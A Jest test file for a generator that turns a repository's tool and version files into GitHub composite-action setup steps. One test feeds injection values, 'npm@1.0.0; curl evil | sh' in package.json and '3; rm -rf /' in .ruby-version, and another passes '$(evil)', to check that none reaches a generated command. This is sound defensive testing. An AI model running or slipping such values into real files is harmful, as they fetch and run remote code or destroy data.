import { describe, expect, it } from '@jest/globals';
import { parse } from 'yaml';
import { installationLines } from '../../src/text/tool-lines.js';
import { setupActionFor } from '../../src/verify/setup-action.js';

const inPath = (file: string) => `\${{ inputs.path }}/${file}`;

const treeOf = (files: Readonly<Record<string, string>>) => ({
  files: Object.keys(files),
  text: (file: string) => files[file],
});

interface Step {
  readonly uses?: string;
  readonly run?: string;
  readonly shell?: string;
  readonly with?: Readonly<Record<string, unknown>>;
}

const stepsFor = (files: Readonly<Record<string, string>>): readonly Step[] => {
  const action = setupActionFor(treeOf(files));
  return action ? (parse(action.text) as { runs: { steps: Step[] } }).runs.steps : [];
};

const CASES: readonly (readonly [what: string, files: Readonly<Record<string, string>>, steps: readonly object[]])[] = [
  [
    'a .nvmrc',
    { 'package.json': '{}', '.nvmrc': '22\n' },
    [{ uses: 'actions/setup-node@v6', with: { 'node-version-file': inPath('.nvmrc') } }],
  ],
  [
    'a .node-version and pnpm of packageManager',
    { 'package.json': '{"packageManager":"pnpm@10.1.0+sha512.abc"}', '.node-version': '24' },
    [
      { uses: 'actions/setup-node@v6', with: { 'node-version-file': inPath('.node-version') } },
      { run: 'npm install --global corepack && corepack enable && pnpm --version', shell: 'bash' },
    ],
  ],
  [
    'a lock file of pnpm alone',
    { 'package.json': '{}', 'pnpm-lock.yaml': '' },
    [{ run: 'npm install --global pnpm@latest' }],
  ],
  [
    'a .python-version and uv',
    { '.python-version': '3.13', 'pyproject.toml': '[project]\nrequires-python = ">=3.12"\n', 'uv.lock': '' },
    [
      { uses: 'actions/setup-python@v6', with: { 'python-version-file': inPath('.python-version') } },
      { run: 'pipx install uv' },
    ],
  ],
  [
    'pytest that is configured without a manager',
    { 'pyproject.toml': '[tool.pytest.ini_options]\n' },
    [{ run: 'python -m pip install pytest' }],
  ],
  [
    'a .tool-versions with several tools',
    { '.tool-versions': '# ours\nnodejs 22.1.0\npython 3.13.1\njava temurin-21\nruby 3.4.1\n' },
    [
      { uses: 'actions/setup-node@v6', with: { 'node-version-file': inPath('.tool-versions') } },
      { uses: 'actions/setup-python@v6' },
      { uses: 'actions/setup-java@v5', with: { distribution: 'temurin' } },
      { uses: 'ruby/setup-ruby@v1', with: { 'ruby-version': '3.4.1' } },
    ],
  ],
  [
    'the toolchain of go.mod',
    { 'go.mod': 'module a\n\ngo 1.24\n\ntoolchain go1.24.3\n' },
    [{ uses: 'actions/setup-go@v6', with: { 'go-version-file': inPath('go.mod'), cache: false } }],
  ],
  [
    'a go.mod that names only the oldest Go, and the configuration of golangci-lint 2',
    { 'go.mod': 'module a\n\ngo 1.12\n', '.golangci.yaml': 'version: "2"\n' },
    [
      { uses: 'actions/setup-go@v6', with: { 'go-version': 'stable' } },
      { run: expect.stringMatching(/go install \S+\/golangci-lint\/v2\/cmd\/golangci-lint@latest$/) },
    ],
  ],
  [
    'the configuration of golangci-lint 1',
    { 'go.mod': 'module a\n\ngo 1.24\n', '.golangci.yml': 'linters:\n  enable: [gofmt]\n' },
    [
      { uses: 'actions/setup-go@v6' },
      { run: expect.stringMatching(/go install \S+\/golangci-lint\/cmd\/golangci-lint@latest$/) },
    ],
  ],
  [
    'a linter that is configured in pyproject.toml',
    { 'pyproject.toml': '[tool.pytest.ini_options]\n[tool.ruff]\n' },
    [{ run: 'python -m pip install pytest' }, { run: 'pipx install ruff' }],
  ],
  [
    'a tool that only a CI workflow starts',
    {
      'pyproject.toml': '[project]\nname = "a"\n[tool.pytest.ini_options]\n',
      '.github/workflows/ci.yml': 'jobs:\n  build:\n    runs-on: x\n    steps:\n      - run: uv build\n',
    },
    [{ run: 'python -m pip install pytest' }, { run: 'pipx install uv' }],
  ],
  [
    'a rust-toolchain.toml',
    { 'rust-toolchain.toml': '[toolchain]\nchannel = "1.85"\n', 'Cargo.toml': '' },
    [{ run: 'rustup show active-toolchain || rustup toolchain install' }],
  ],
];

describe('the set-up action of crew init', () => {
  it.each(CASES)('is made for %s', (_, files, steps) => {
    const made = stepsFor(files);
    expect(made).toHaveLength(steps.length);
    expect(made).toEqual(steps.map((step) => expect.objectContaining(withMatching(step))));
  });

  it('is not written where nothing asks for a tool', () => {
    expect(setupActionFor(treeOf({ 'README.md': '', 'package.json': '{}', 'package-lock.json': '{}' }))).toBeNull();
  });

  it('gives every script a shell, which composite actions require', () => {
    for (const [, files] of CASES)
      for (const step of stepsFor(files)) expect([step.run, step.shell]).toEqual([step.run, step.run && 'bash']);
  });

  it('takes no words of a file into a command but a version', () => {
    const hostile = {
      'package.json': '{"packageManager":"npm@1.0.0; curl evil | sh"}',
      '.ruby-version': '3; rm -rf /',
    };
    expect(setupActionFor(treeOf(hostile))?.text ?? '').not.toMatch(/evil|rm -rf/);
  });
});

describe('the lines that bring a tool', () => {
  it.each(['pnpm', 'uv', 'go', 'cargo', 'pytest', 'golangci-lint', 'gradle', 'unknown-tool', '$(evil)'])(
    'for %s are two, and one step of a composite action',
    (name) => {
      const lines = installationLines(name);
      expect(lines).toHaveLength(2);
      const [step, ...more] = parse(lines.join('\n')) as readonly Step[];
      expect(more).toEqual([]);
      expect(step?.uses ?? step?.run).toEqual(expect.not.stringContaining('$('));
    },
  );
});

/** A step's own `with` may hold more than is named. */
const withMatching = (step: object) =>
  'with' in step ? { ...step, with: expect.objectContaining(step.with as Record<string, unknown>) } : step;
